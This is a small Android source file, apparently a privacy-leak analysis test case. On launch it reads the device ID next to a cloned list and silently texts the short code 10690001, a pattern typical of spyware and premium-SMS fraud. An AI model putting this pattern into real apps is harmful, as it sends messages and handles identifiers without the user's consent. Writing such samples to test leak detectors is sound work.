package cn.shanhai.clone;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.LinkedList;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    List<String> first = new LinkedList<>();
    LinkedList<?> second = (LinkedList<?>) ((LinkedList<String>) first).clone();
    first.add(Device.id(this));
    SmsManager.getDefault().sendTextMessage("10690001", null, String.valueOf(second.size()), null, null);
  }
}
